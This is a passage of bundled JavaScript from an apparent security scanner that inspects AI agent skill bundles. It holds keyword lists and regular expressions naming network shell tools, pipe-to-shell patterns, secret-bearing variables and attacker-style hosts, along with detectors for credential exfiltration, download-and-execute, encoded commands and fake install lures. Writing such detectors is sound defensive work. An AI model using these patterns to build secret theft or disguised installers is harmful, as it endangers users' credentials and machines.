        'xmlhttp',
        'websocket',
        'http.get',
        'https.get',
        'https.request',
        'http.request',
        'got(',
        'got.',
        'sendbeacon',
        'dgram',
        'dns.',
        'resolver',
        'gethostbyname',
        'curl',
        'wget',
        'nc ',
        'dig ',
        'nslookup',
        'host ',
        'scp ',
        'rsync',
        'ftp ',
        'sftp',
        'ssh ',
        'rclone',
        's3 cp',
        's3 sync',
        'gsutil',
        'iwr',
        'irm',
        'invoke-webrequest',
        'invoke-restmethod',
        'webclient',
        'downloadstring',
        'downloadfile',
        'uploadstring',
        'uploadfile',
        'uploaddata',
        'bitsadmin',
        'bitstransfer',
        'certutil',
        'open-uri',
        'net::http',
        'lwp',
        'file_get_contents',
        'sendmail',
        'mail ',
        'webhook',
        'git clone',
        'git push',
        'boto3',
        'telegram',
        'discord',
        'http::tiny',
        "open('http",
        'mshta',
        'regsvr32',
        'rundll32',
    ],
    execution: [
        'subprocess',
        'os.system',
        'popen',
        'os.exec',
        'os.spawn',
        'startfile',
        'exec(',
        'eval(',
        'eval ',
        'compile(',
        'child_process',
        'execsync',
        'spawn',
        'function(',
        'vm.run',
        'vm.script',
        'importlib',
        '__import__',
        'runpy',
        'pickle',
        'marshal',
        'ctypes',
        'yaml.load',
        'pty',
        'exec ',
        '| sh',
        '|sh',
        '| bash',
        '|bash',
        '| zsh',
        '|zsh',
        '| sudo',
        '| python',
        '|python',
        '| node',
        '|node',
        '| perl',
        '| ruby',
        'sh -c',
        '<(',
        'sh -s',
        'source ',
        '. /',
        'chmod +x',
        'chmod a+x',
        'chmod 7',
        'chmod u+x',
        '.chmod',
        'iex',
        'invoke-expression',
        'start-process',
        'osascript',
        'system(',
        'mshta',
        'regsvr32',
        'rundll32',
        'wscript',
        'cscript',
        'cmd /c',
        'cmd.exe',
        'import(',
        './',
        'nohup',
        'powershell',
        'bash ',
        'python ',
        'python3 ',
        'node ',
        'installer ',
        'msiexec',
        'open ',
    ],
    decoding: [
        'b64',
        'base64',
        'b32',
        'b85',
        'fromhex',
        'unhexlify',
        'zlib',
        'gzip.',
        'lzma',
        'codecs',
        'rot13',
        'rot_13',
        'atob',
        'fromcharcode',
        'fromcodepoint',
        'chr(',
        '[::-1]',
        '.reverse()',
        'reversed(',
        '\\x',
        'xxd',
        'openssl',
        'unescape',
        'buffer.from',
        'frombase64',
        '-join',
        'getattr',
        '[char]',
        'pack(',
        'fernet',
        'decrypt',
        'xor',
        '-enc',
        'marshal',
        'bytes(',
        'bytearray(',
        'printf ',
    ],
    /** Variables that hold secrets; those of well-known owners, since every client reads one of its own. */
    variable: [
        'aws_secret',
        'aws_access',
        'aws_session',
        'github_token',
        'gh_token',
        'npm_token',
        'openai_api',
        'anthropic_api',
        'slack_',
        'stripe_',
        'database_url',
        'jwt_secret',
        'gcp_',
        'google_app',
        'azure_',
        'hf_token',
        'huggingface',
        'gitlab_token',
        'docker_',
        'sendgrid',
        'private_key',
        'mnemonic',
        'secret_key',
        'db_pass',
        'twilio',
        'discord_',
        'telegram_',
        '_token',
        '_secret',
        'api_key',
        'password',
    ],
    /** Requests that carry data. */
    body: ['--data', ' -d ', ' -d"', " -d'", ' -f ', 'data=', 'json=', 'body:', 'payload', '-body', 'files='],
    /** Words of addresses that nobody answers for. */
    shady: [
        'webhook.site',
        'requestbin',
        'pipedream',
        'hookb.in',
        'beeceptor',
        'interact.sh',
        'oast',
        'burpcollab',
        'ngrok',
        'trycloudflare',
        'loca.lt',
        'serveo',
        'bore.pub',
        'pastebin',
        'transfer.sh',
        '.onion',
        'api/webhooks/',
        'api.telegram.org',
        'evil',
        'attacker',
        'malicious',
        'exfil',
        'backdoor',
        'c2.',
        'hacker',
        'stealer',
        'payload',
        'duckdns',
        'no-ip',
        'ddns',
        'xn--',
        'bit.ly',
        'tinyurl',
        'http://1',
        'http://2',
        'http://3',
        'http://4',
        'http://5',
        'http://6',
        'http://7',
        'http://8',
        'http://9',
        'https://1',
        'https://2',
        'https://3',
        'https://4',
        'https://5',
        'https://6',
        'https://7',
        'https://8',
        'https://9',
    ],
};
/** Whether a program that holds words of these groups can do what a rule speaks of. */
function isWorthReading(holds, emptyQuotes) {
    if (holds('alone'))
        return true;
    const executes = holds('execution');
    if ((executes || emptyQuotes === 'split-words' || holds('reflection')) && holds('quotes'))
        return true;
    const decodes = holds('decoding');
    if (executes && decodes)
        return true;
    if (!holds('network'))
        return false;
    if (executes || holds('private') || holds('shady'))
        return true;
    return (holds('variable') || decodes) && (holds('body') || decodes);
}
const DECISIVE_ANCHORS = Object.values(PROGRAM_ANCHORS).flat();

;// CONCATENATED MODULE: ./lib/skills/analysis/snippets.js
const LANGUAGE_OF_FILE = {
    shell: 'shell',
    powershell: 'powershell',
    batch: 'batch',
    python: 'python',
    javascript: 'javascript',
    typescript: 'javascript',
    ruby: 'ruby',
    perl: 'perl',
    php: 'php',
};
const LANGUAGE_OF_FENCE = {
    sh: 'shell',
    bash: 'shell',
    shell: 'shell',
    zsh: 'shell',
    console: 'shell',
    terminal: 'shell',
    'shell-session': 'shell',
    shellscript: 'shell',
    fish: 'shell',
    cmd: 'batch',
    bat: 'batch',
    batch: 'batch',
    '!': 'shell',
    powershell: 'powershell',
    ps1: 'powershell',
    pwsh: 'powershell',
    ps: 'powershell',
    python: 'python',
    py: 'python',
    python3: 'python',
    'python-repl': 'python',
    pycon: 'python',
    javascript: 'javascript',
    js: 'javascript',
    mjs: 'javascript',
    cjs: 'javascript',
    jsx: 'javascript',
    node: 'javascript',
    typescript: 'javascript',
    ts: 'javascript',
    tsx: 'javascript',
    ruby: 'ruby',
    rb: 'ruby',
    perl: 'perl',
    php: 'php',
    go: 'go',
    golang: 'go',
    applescript: 'applescript',
    osascript: 'applescript',
    makefile: 'makefile',
    make: 'makefile',
    dockerfile: 'dockerfile',
    docker: 'dockerfile',
};
/**
 * All programs of a text, in order, without overlaps between fences and the rest. Zones of Markdown that are not worth a
 * look (what is worth one in a part is worth one as a whole) are passed over.
 */
function snippetsOf(unit, isWorth = () => true) {
    const { text, file } = unit;
    if (unit.layer !== 'plain' && unit.layer !== 'normalised')
        return [{ language: guessLanguage(text), start: 0, end: text.length, kind: 'code' }];
    const language = languageOfFile(unit);
    if (language !== undefined)
        return [{ language, start: 0, end: text.length, kind: 'code' }];
    if (file.language === 'json' || file.language === 'yaml' || file.language === 'toml')
        return commandStrings(text);
    if (file.language !== 'markdown' || unit.layer !== 'plain')
        return [];
    return file.zones.flatMap((zone) => (isWorth(zone.start, zone.end) ? snippetsOfZone(text, zone) : []));
}
function languageOfFile(unit) {
    const name = unit.file.path.slice(unit.file.path.lastIndexOf('/') + 1).toLowerCase();
    if (name === 'makefile' || name.endsWith('.mk'))
        return 'makefile';
    if (name === 'dockerfile' || name.endsWith('.dockerfile'))
        return 'dockerfile';
    if (name.endsWith('.go'))
        return 'go';
    if (name.endsWith('.applescript') || name.endsWith('.scpt'))
        return 'applescript';
    return LANGUAGE_OF_FILE[unit.file.language];
}
function snippetsOfZone(text, zone) {
    if (zone.kind === 'fence') {
        const language = zone.language === '' || zone.language === 'text'
            ? guessLanguage(text.slice(zone.start, Math.min(zone.end, zone.start + 4000)))
            : LANGUAGE_OF_FENCE[zone.language];
        return language === undefined ? [] : [{ language, start: zone.start, end: zone.end, kind: 'code' }];
    }
    const source = text.slice(zone.start, zone.end);
    if (zone.kind === 'front-matter')
        return commandStrings(source).map((one) => ({ ...one, start: one.start + zone.start, end: one.end + zone.start }));
    return [...inlineSpans(source, zone.start), ...proseCommands(source, zone.start)];
}
const INLINE_SPAN = /(`{1,3})([^`\n]{4,2000})\1/g;
function inlineSpans(source, offset) {
    const found = [];
    for (const match of source.matchAll(INLINE_SPAN)) {
        const body = match[2] ?? '';
        if (!/\s|[|;<>$]/.test(body))
            continue;
        const start = offset + match.index + (match[1]?.length ?? 1);
        found.push({ language: guessLanguage(body), start, end: start + body.length, kind: 'inline' });
    }
    return found;
}
const PROSE_COMMAND = /(?<![\w`./-])(?:curl\s+(?:-|http)|wget\s+(?:-|http)|scp\s+\S+\s+\S+@|rsync\s+-|nc\s+-|ncat\s+|aws s3 (?:cp|sync)\s|bash\s+(?:-[ic]|<\()|sh\s+-c|python3?\s+-c|node\s+-e|eval\s+["$(]|powershell(?:\.exe)?\s+-|iex\s*\(|cat\s+[~/.]|echo\s+["'$][^\n`]{0,300}\||crontab\s+-|rm\s+-rf?\s|chmod\s+[+\d]|pip3?\s+install\s|npm\s+i(?:nstall)?\s|base64\s+-|dd\s+if=|tar\s+c\S*\s|find\s+[~/.]|env\s*\||printenv\s*\||history\s*[|-])[^\n`]{0,1500}/gi;
/** Commands that stand in a sentence without marks; read up to the end of the line. */
function proseCommands(source, offset) {
    const found = [];
    for (const match of source.matchAll(PROSE_COMMAND)) {
        const start = offset + match.index;
        found.push({
            language: /^(?:powershell|iex)/i.test(match[0]) ? 'powershell' : 'shell',
            start,
            end: start + match[0].length,
            kind: 'prose',
        });
    }
    return found;
}
const COMMAND_STRING = /"((?:[^"\\\n]|\\.){8,4000})"|'([^'\n]{8,4000})'|(?<=:\s|-\s|\|\s)([^\s"'|>{[#][^\n]{8,2000})/g;
const COMMAND_LIKE = /(?:^|[\s;|&(])(?:curl|wget|bash|sh|zsh|python3?|node|nc|powershell|pwsh|iex|eval|base64|rm|crontab|chmod|scp|cat|npx|osascript)\s/i;
/** Strings of a configuration file that are command lines: hooks, tasks, scripts, server commands. */
function commandStrings(text) {
    const found = [];
    for (const match of text.matchAll(COMMAND_STRING)) {
        const body = match[1] ?? match[2] ?? match[3] ?? '';
        if (!COMMAND_LIKE.test(body))
            continue;
        const start = match.index + match[0].indexOf(body);
        found.push({ language: guessLanguage(body), start, end: start + body.length, kind: 'inline' });
        if (found.length >= 300)
            break;
    }
    return found;
}
/** The language of a program without a label: by its most telling words, else a shell's. */
function guessLanguage(text) {
    const head = text.slice(0, 4000);
    if (/\b(?:IEX|Invoke-\w+|New-Object|Get-\w+|Set-\w+|Start-Process|powershell)\b|\$env:/i.test(head) &&
        !/^\s*(?:import|from)\s/m.test(head))
        return 'powershell';
    if (/^\s*(?:import\s+[\w.]+|from\s+[\w.]+\s+import\s|def\s+\w+\(|class\s+\w+[(:]|print\()|\bexec\(|\b__import__\(|\bos\.system\(/m.test(head))
        return 'python';
    if (/\b(?:const|let|var)\s+[\w{[]|\brequire\(|=>|\bfunction\s*\w*\(|\bconsole\.|\bfetch\(|^\s*import\s.+\sfrom\s/m.test(head))
        return 'javascript';
    if (head.includes('<?php'))
        return 'php';
    return 'shell';
}

;// CONCATENATED MODULE: ./lib/skills/analysis/programs.js



/** Longer programs are read in their first part only: 512 Ki units. */
const MAX_PROGRAM = 512 * 1024;
/** The programs of a text that could do anything worth saying, each read once. */
function programs_programsOf(unit, filter) {
    if (filter === 'on' && !isWorthReading((group) => unit.hasAny(PROGRAM_ANCHORS[group]), 'split-words'))
        return [];
    const read = [];
    // A zone may hold a short block of any language, whatever its own length.
    const isWorthSearching = (start, end) => filter === 'off' || isWorthReading((group) => holdsGroup(unit, start, end, 0, group), 'split-words');
    for (const snippet of snippetsOf(unit, isWorthSearching)) {
        if (filter === 'on' && !isSnippetWorthReading(unit, snippet))
            continue;
        const text = unit.text.slice(snippet.start, Math.min(snippet.end, snippet.start + MAX_PROGRAM));
        read.push({ unit, snippet, program: readProgram(snippet.language, text) });
    }
    return read;
}
function isSnippetWorthReading(unit, { start, end, language }) {
    const emptyQuotes = language === 'python' ? 'empty-text' : 'split-words';
    return isWorthReading((group) => holdsGroup(unit, start, end, end - start, group), emptyQuotes);
}
function placed(read, deed) {
    return { read, deed, start: read.snippet.start + deed.start, end: read.snippet.start + deed.end };
}
/** The deeds whose data reach a deed. */
function programs_originsOf(read, deed) {
    return deed.flowsFrom.map((index) => read.program.behaviours[index]).filter((one) => one !== undefined);
}
const SHORT_BLOCK = 600;
/** A short block may run what another block of the page downloads, so for those the two count together for the page. */
function holdsGroup(unit, start, end, length, group) {
    const inside = (wanted) => holdsAny(unit.endsOfAny(PROGRAM_ANCHORS[wanted]), start, end);
    if (inside(group))
        return true;
    if (length >= SHORT_BLOCK)
        return false;
    if (group === 'network')
        return inside('execution') && unit.hasAny(PROGRAM_ANCHORS.network);
    return group === 'execution' && inside('network') && unit.hasAny(PROGRAM_ANCHORS.execution);
}
function holdsAny(sorted, start, end) {
    let low = 0;
    let high = sorted.length;
    while (low < high) {
        const middle = (low + high) >> 1;
        if ((sorted[middle] ?? 0) > start)
            high = middle;
        else
            low = middle + 1;
    }
    const first = sorted[low];
    return first !== undefined && first <= end;
}

;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/credential-exfiltration.js







/** What nobody sends anywhere on purpose. */
const SECRETS = new Set([
    'private-key',
    'credentials',
    'wallet',
    'browser-store',
    'keychain',
    'password-database',
    'cloud-metadata',
    'keystrokes',
    'shell-history',
    'environment',
    'dotenv',
    'messages',
]);
/** What is sent on purpose now and then. */
const PRIVATE = new Set(['agent-memory', 'agent-settings', 'clipboard', 'screen', 'personal-files']);
const TRUSTED_HOSTS = new Set(['vendor', 'installer', 'code-host']);
/** Private data that reach a network. */
const credentialExfiltrationDetector = {
    rule: credential_exfiltration/* credentialExfiltration */.p,
    signals: [SEND_LABELLED_SECRET],
    *detect(view) {
        for (const unit of view.units)
            for (const match of unit.find(SEND_LABELLED_SECRET))
                if (!toOwnHost(match.text))
                    yield codeHit(view, unit, match, 'critical', 'high', {
                        what: 'a value that is labelled as a secret',
                        source: '',
                        target: match.text.slice(0, 120),
                    });
        for (const read of view.programs) {
            for (const deed of read.program.behaviours) {
                if (deed.kind !== 'send' && deed.kind !== 'fetch')
                    continue;
                const worst = worstOrigin(deed, programs_originsOf(read, deed));
                if (worst === undefined) {
                    const { start, end } = placed(read, deed);
                    const covert = inHeader(read.unit.text.slice(start, end)) ? undefined : covertChannel(deed, programs_originsOf(read, deed));
                    if (covert !== undefined)
                        yield codeHit(view, read.unit, placed(read, deed), ...covert, { what: 'encoded data', source: '', target: deed.target ?? '' });
                    continue;
                }
                const { start, end } = placed(read, deed);
                yield codeHit(view, read.unit, { start, end }, worst.severity, worst.confidence, {
                    what: SUBJECT_WORDS[worst.subject],
                    source: worst.source,
                    target: deed.target ?? '',
                });
            }
        }
    },
};
function worstOrigin(send, origins) {
    let worst;
    for (const origin of origins) {
        if (origin.kind !== 'read' || origin.subject === undefined)
            continue;
        const grade = credential_exfiltration_gradeOf(send, origin.subject, origin.target ?? '', origins.some((one) => one.kind === 'encode'));
        if (grade !== undefined && (worst === undefined || credential_exfiltration_rank(grade) > credential_exfiltration_rank(worst)))
            worst = { ...grade, subject: origin.subject, source: origin.target ?? '' };
    }
    return worst;
}
function credential_exfiltration_gradeOf(send, subject, variable, encoded) {
    const host = send.host ?? 'variable';
    const anonymous = isShadyAddress(send.target ?? '', host);
    if (SECRETS.has(subject)) {
        if (host === 'local' || host === 'private')
            return { severity: 'high', confidence: 'low' };
        if (TRUSTED_HOSTS.has(host))
            return { severity: 'high', confidence: 'medium' };
        return { severity: 'critical', confidence: host === 'variable' && subject !== 'environment' ? 'medium' : 'high' };
    }
    if (host === 'local' || host === 'private' || TRUSTED_HOSTS.has(host))
        return undefined;
    if (PRIVATE.has(subject) && send.kind === 'fetch')
        return { severity: 'high', confidence: 'low' };
    if (PRIVATE.has(subject))
        return { severity: 'critical', confidence: host === 'variable' ? 'medium' : 'high' };
    if (subject === 'environment-variable')
        return gradeOfVariable(send, variable, encoded, anonymous);
    if (subject === 'machine-identity')
        return { severity: 'high', confidence: anonymous ? 'high' : 'medium' };
    return anonymous ? { severity: 'high', confidence: 'medium' } : undefined;
}
const SEVERITY_RANK = { critical: 4, high: 3, medium: 2, low: 1, info: 0 };
const CONFIDENCE_RANK = { high: 0.9, medium: 0.5, low: 0 };
function credential_exfiltration_rank(grade) {
    return SEVERITY_RANK[grade.severity] + CONFIDENCE_RANK[grade.confidence];
}
const credential_exfiltration_SECRET_NAME = /(?:SECRET|TOKEN|PASSWORD|PASSWD|PRIVATE_?KEY|API_?KEY|ACCESS_?KEY|CREDENTIAL|DATABASE_URL|MNEMONIC|SEED)/i;
/** Words of variable names that say nothing about whose secret it is. */
const COMMON_WORD = /^(?:API|KEY|TOKEN|SECRET|ACCESS|AUTH|BEARER|ID|URL|MY|APP|CLIENT|USER|SERVICE|BOT|PRIVATE|PUBLIC|PASSWORD|DB|DATABASE|JWT|SESSION|ENV|PROD|DEV|THE|ACCOUNT)$/i;
/** A secret that a variable holds belongs to the service whose name it bears; elsewhere, and most of all encoded, it has no business. */
function gradeOfVariable(send, variable, encoded, anonymous) {
    if (!credential_exfiltration_SECRET_NAME.test(variable))
        return anonymous && send.flags.includes('body') ? { severity: 'high', confidence: 'low' } : undefined;
    if (anonymous)
        return { severity: 'critical', confidence: 'high' };
    // The variable's own name stands in the address when it is sent as a part of it.
    const address = (send.target ?? '').toLowerCase().replace(/\$\([^)]{0,200}\)|\$?\{[^}]{0,80}\}|\$\w{1,60}/g, '');
    if (!/[a-z]\.[a-z]/.test(address))
        return undefined;
    const owners = variable.split('_').filter((word) => word.length >= 2 && !COMMON_WORD.test(word));
    if (owners.some((word) => address.includes(word.toLowerCase())))
        return undefined;
    if (encoded)
        return { severity: 'critical', confidence: 'high' };
    if (!send.flags.includes('body'))
        return undefined;
    return KNOWN_OWNER.test(variable) ? { severity: 'critical', confidence: 'high' } : { severity: 'high', confidence: 'medium' };
}
/** Variables whose owner is known, none of whom takes the secret in the body of a request to anyone else. */
const KNOWN_OWNER = /^(?:AWS_|GITHUB_|GH_|NPM_|OPENAI_|ANTHROPIC_|SLACK_|STRIPE_|GOOGLE_|AZURE_|HF_|HUGGINGFACE|GITLAB_|DOCKER_|DATABASE_URL|JWT_SECRET)/;
/** Data that are encoded into the name of a host, or encoded before they go to a stranger: nothing that a service asks for. */
function covertChannel(send, origins) {
    const encoded = origins.some((origin) => origin.kind === 'encode');
    if (!encoded || send.kind !== 'send')
        return undefined;
    if (/^(?:dig|nslookup|host|drill|socket\.gethostbyname|dns\.resolve\w*)$/.test(send.name))
        return ['critical', 'high'];
    if (isShadyAddress(send.target ?? '', send.host))
        return ['critical', 'high'];
    if (send.host === 'variable')
        return send.flags.includes('hidden-output') || send.flags.includes('background') ? ['critical', 'medium'] : undefined;
    return send.host === 'named' || send.host === 'example' ? ['critical', fromVariable(origins) ? 'high' : 'medium'] : undefined;
}
/** Whether what is encoded is the value of a variable, not a file: pictures and documents are encoded for many services. */
function fromVariable(origins) {
    return !origins.some((origin) => origin.subject === 'file' || origin.kind === 'fetch');
}
/** This machine, its network and the vendors whose requests take a secret in the body. */
function toOwnHost(command) {
    const address = /https?:\/\/[^\s"'`)<>|]{1,300}/i.exec(command)?.[0];
    if (address === undefined)
        return false;
    const host = classifyHost(address).class;
    return host === 'local' || host === 'private' || host === 'variable' || TRUSTED_HOSTS.has(host);
}
/** Basic authentication and signatures are encoded by definition (RFC 7617), and go into a header of the request. */
function inHeader(command) {
    return (/(?:-H|--header)[ =]?["'](?:Proxy-)?Authorization:\s{0,3}Basic\b|(?:-H|--header)[ =]?["'][\w-]{0,40}signature[\w-]{0,20}:/iu.test(command) && !/(?:-d|--data[\w-]{0,12}|-F|-T)[ =]["']?[^\n]{0,200}\b(?:base64|b64)/iu.test(command));
}

;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/download-and-execute.js







/** Downloads that are run where no single program shows it: across the blocks of a page, and in texts that are no program. */
const download_and_execute_downloadAndExecuteDetector = {
    rule: download_and_execute/* downloadAndExecute */.z,
    signals: [FETCH_TO_SHELL, SHELL_OF_FETCH],
    *detect(view) {
        yield* commandsOutsidePrograms(view);
        yield* filesRunLater(view);
    },
};
/** The same as commands in texts that are no program and hold none: data files, settings of unknown tools. */
function* commandsOutsidePrograms(view) {
    for (const unit of view.units) {
        for (const match of [...unit.find(FETCH_TO_SHELL), ...unit.find(SHELL_OF_FETCH)]) {
            const covered = view.programs.some((read) => read.unit === unit && read.snippet.start <= match.start && match.start < read.snippet.end && read.program.behaviours.length > 0);
            if (covered)
                continue;
            const address = /https?:\/\/[^\s"'`)<>|]{1,300}/i.exec(match.text)?.[0] ?? '';
            const host = address === '' ? 'variable' : classifyHost(address).class;
            const [severity, confidence] = download_and_execute_gradeOf({ host, target: address, flags: /^http:/i.test(address) ? ['insecure'] : [] }, isOfPublisher(view, address) ? 'publisher' : 'stranger');
            yield codeHit(view, unit, match, severity, confidence, { address, runs: '' });
        }
    }
}
/** A file that one program of a text downloads and a later one starts by its name. */
function* filesRunLater(view) {
    const fetched = new Map();
    for (const read of view.programs) {
        if (read.snippet.kind !== 'code')
            continue;
        for (const deed of read.program.behaviours) {
            const name = /\/([\w.-]{3,60}?)(?:[?#].*)?$/.exec(deed.target ?? '')?.[1] ?? '';
            if (deed.kind === 'fetch' && RUNNABLE.test(name))
                fetched.set(name, { unit: read.unit, fetch: deed, read });
            if (deed.kind !== 'execute')
                continue;
            for (const [file, source] of fetched) {
                if (source.read === read || source.unit !== read.unit || !runsData(deed) || !namesFile(deed.target ?? '', file))
                    continue;
                const own = isOfPublisher(view, source.fetch.target ?? '');
                const [severity, confidence] = download_and_execute_gradeOf(source.fetch, own ? 'publisher' : 'stranger');
                yield codeHit(view, read.unit, placed(read, deed), severity, confidence, {
                    address: source.fetch.target ?? '',
                    runs: deed.target ?? '',
                });
            }
        }
    }
}
const RUNNABLE = /\.(?:sh|bash|py|pl|rb|js|mjs|exe|bin|run|ps1|bat|cmd|jar|appimage|pkg|dmg|msi)$|^[A-Za-z][\w-]{2,40}$/i;
function namesFile(command, file) {
    const at = command.indexOf(file);
    return at >= 0 && !/[\w.-]/.test(command.charAt(at + file.length)) && (at === 0 || /[\s/\\"']/.test(command.charAt(at - 1)));
}
/** Whether the data themselves are run, not only handed to a program that reads them. */
function runsData(deed) {
    if (deed.kind === 'evaluate')
        return true;
    if (deed.kind !== 'execute')
        return false;
    const [program = '', first = ''] = (deed.target ?? deed.name).trim().split(/\s+/, 2);
    if (/^(?:\.{0,2}\/|~|\$|%|[A-Za-z]:\\)|\.(?:sh|exe|py|bat|ps1|msi|pkg|dmg|app|bin|run)$/i.test(program))
        return true;
    return (/^(?:sudo|(?:ba|z|da|k)?sh|python[\d.]*|node|perl|ruby|open|start|installer|msiexec|nohup|osascript)$/.test(program) &&
        /[./]/.test(first) &&
        !first.startsWith('-'));
}
function download_and_execute_gradeOf(fetch, owner) {
    const host = fetch.host ?? 'variable';
    if (host === 'local' || host === 'private')
        return ['low', 'medium'];
    if (host === 'installer')
        return ['low', 'low'];
    if (isShadyAddress(fetch.target ?? '', host))
        return ['critical', 'high'];
    if (host === 'vendor')
        return ['medium', 'low'];
    if (fetch.flags.includes('insecure'))
        return ['critical', 'medium'];
    if (host === 'variable')
        return ['high', 'low'];
    return ['high', owner === 'publisher' ? 'medium' : 'high'];
}

// EXTERNAL MODULE: ./lib/rules/skill/dynamic-command.js
var dynamic_command = __webpack_require__(5608);
;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/dynamic-command.js





/** Commands that run when the skill is loaded, before anyone sees what they answer. */
const dynamicCommandDetector = {
    rule: dynamic_command/* dynamicCommand */.p,
    signals: [DYNAMIC_COMMAND],
    *detect(view) {
        for (const unit of view.units) {
            if (unit.file.language !== 'markdown' || unit.layer !== 'plain')
                continue;
            for (const match of unit.find(DYNAMIC_COMMAND)) {
                if (zoneAt(unit.file.zones, match.start)?.kind === 'fence')
                    continue;
                const command = match.groups['command'] ?? '';
                const graded = dynamic_command_gradeOf(command, classifyCommand(command));
                if (graded !== undefined)
                    yield codeHit(view, unit, match, graded[0], graded[1], { command });
            }
        }
    },
};
function dynamic_command_gradeOf(command, deeds) {
    const kinds = new Set(deeds.map((deed) => deed.kind));
    const secret = deeds.some((deed) => deed.kind === 'read' &&
        deed.subject !== undefined &&
        deed.subject !== 'file' &&
        deed.subject !== 'environment-variable' &&
        deed.subject !== 'machine-identity');
    if (kinds.has('send') || kinds.has('evaluate') || kinds.has('connect-shell') || kinds.has('persist'))
        return ['critical', 'high'];
    if (secret || /\b(?:base64\s+-d|\|\s*(?:ba|z)?sh)\b/.test(command))
        return ['critical', 'medium'];
    if (kinds.has('fetch'))
        return ['high', 'medium'];
    if (kinds.has('delete') || kinds.has('install') || kinds.has('write'))
        return ['medium', 'medium'];
    return /\$(?:ARGUMENTS|\{?[1-9])/.test(command) ? ['medium', 'low'] : undefined;
}

// EXTERNAL MODULE: ./lib/rules/skill/embedded-secret.js
var embedded_secret = __webpack_require__(6824);
;// CONCATENATED MODULE: ./lib/skills/analysis/signals/secrets.js

/** Secrets of providers that mark theirs with a prefix. */
const PROVIDER_SECRET = signal('provider-secret', [
    'akia',
    'asia',
    'ghp_',
    'gho_',
    'ghs_',
    'github_pat_',
    'sk-ant-',
    'sk-proj-',
    'xoxb-',
    'xoxp-',
    'xoxa-',
    'aiza',
    'glpat-',
    'npm_',
    'hf_',
    'private key-----',
    'sk_live_',
    'rk_live_',
    'sg.',
    'pypi-',
    'dop_v1_',
    'shpat_',
], /(?<![\w-])(?<secret>(?:AKIA|ASIA)[0-9A-Z]{16}(?![0-9A-Za-z])|gh[pos]_[A-Za-z0-9]{36}(?![A-Za-z0-9])|github_pat_[A-Za-z0-9_]{60,90}|sk-ant-(?:api|oat)\d\d-[A-Za-z0-9_-]{80,120}|sk-proj-[A-Za-z0-9_-]{40,180}|xox[bpa]-\d{8,14}-\d{8,14}-[A-Za-z0-9-]{16,40}|AIza[0-9A-Za-z_-]{35}(?![0-9A-Za-z_-])|glpat-[A-Za-z0-9_-]{20}(?![\w-])|npm_[A-Za-z0-9]{36}(?!\w)|hf_[A-Za-z]{34}(?!\w)|[sr]k_live_[A-Za-z0-9]{24,99}|SG\.[\w-]{22}\.[\w-]{43}|dop_v1_[a-f0-9]{64}|shpat_[a-f0-9]{32}|pypi-AgEIcHlwaS5vcmc[\w-]{50,200})|-----BEGIN (?<kind>(?:RSA |EC |OPENSSH |DSA |ENCRYPTED |PGP )?PRIVATE KEY)(?: BLOCK)?-----\s{1,4}(?<body>[A-Za-z0-9+\/=\s]{200,1500})/, 1800);

;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/embedded-secret.js



/** Secrets that stand in the bundle. The value itself goes into no finding. */
const embeddedSecretDetector = {
    rule: embedded_secret/* embeddedSecret */.V,
    signals: [PROVIDER_SECRET],
    *detect(view) {
        for (const unit of view.units) {
            for (const match of unit.find(PROVIDER_SECRET)) {
                const value = match.groups['secret'] ?? match.groups['body'] ?? '';
                if (!looksRandom(value))
                    continue;
                const kind = match.groups['kind'] ?? `token ${value.slice(0, 4)}…`;
                yield { ...codeHit(view, unit, match, 'medium', 'medium', { kind }), snippet: `${kind} (redacted)` };
            }
        }
    },
};
/** Placeholders repeat, count up or speak; secrets use much of their alphabet. */
function looksRandom(value) {
    if (/example|sample|your|test|dummy|fake|placeholder|redacted|xxxx|1234567|abcdef|(.)\1{4}/i.test(value))
        return false;
    return new Set(value).size >= Math.min(14, value.length / 2);
}

// EXTERNAL MODULE: ./lib/rules/skill/encoded-command.js
var encoded_command = __webpack_require__(5195);
;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/encoded-command.js




/** Decoders whose output is run: as commands written anywhere, and in programs. */
const encodedCommandDetector = {
    rule: encoded_command/* encodedCommand */.g,
    signals: [DECODE_TO_SHELL, SHELL_OF_DECODED, RUN_MADE_CODE],
    *detect(view) {
        for (const unit of view.units) {
            for (const match of [...unit.find(DECODE_TO_SHELL), ...unit.find(SHELL_OF_DECODED)])
                yield codeHit(view, unit, match, 'critical', 'high', {});
        }
        for (const unit of view.units) {
            for (const match of unit.find(RUN_MADE_CODE)) {
                const fetched = /urlopen|requests|httpx/i.test(match.groups['how'] ?? '');
                if (!fetched)
                    yield codeHit(view, unit, match, 'critical', 'medium', {});
            }
        }
    },
};

// EXTERNAL MODULE: ./lib/rules/skill/fake-prerequisite.js
var fake_prerequisite = __webpack_require__(3959);
;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/fake-prerequisite.js




/** How far apart, in UTF-16 units, the parts of one lure may stand. */
const fake_prerequisite_NEAR = 700;
const WORDS_NEAR_LINK = 350;
/** The parts of an installation lure: none of them means anything alone. */
const fakePrerequisiteDetector = {
    rule: fake_prerequisite/* fakePrerequisite */.a,
    signals: [
        PACKAGE_LINK,
        GIVEN_PASSWORD,
        UNPACK,
        RUN_PROGRAM,
        PASTE_IN_TERMINAL,
        PRESSURE,
        ANONYMOUS_HOST,
        SHORTENED_LINK,
        RAW_ADDRESS_LINK,
    ],
    *detect(view) {
        for (const unit of view.units) {
            if (unit.file.role === 'script' || unit.file.role === 'config' || unit.file.role === 'licence')
                continue;
            yield* lockedArchives(view, unit);
            yield* pastedScripts(view, unit);
            yield* runPackages(view, unit);
        }
    },
};
/** An archive whose password stands beside it: the password keeps it from being scanned on the way. */
function* lockedArchives(view, unit) {
    for (const password of unit.find(GIVEN_PASSWORD)) {
        const unpack = nearest(unit.find(UNPACK), password, 100);
        if (unpack === undefined)
            continue;
        const link = nearest(unit.find(PACKAGE_LINK), password, fake_prerequisite_NEAR);
        const start = Math.min(password.start, unpack.start);
        const end = Math.max(password.end, unpack.end);
        const run = nearest(unit.find(RUN_PROGRAM), password, fake_prerequisite_NEAR);
        if (link === undefined && run === undefined)
            continue;
        yield codeHit(view, unit, { start, end }, 'critical', link === undefined || run === undefined ? 'medium' : 'high', {
            lure: 'locked-archive',
            link: link?.groups['host'] ?? '',
        });
    }
}
/** A page at which anyone can leave text, whose content goes into a terminal. */
function* pastedScripts(view, unit) {
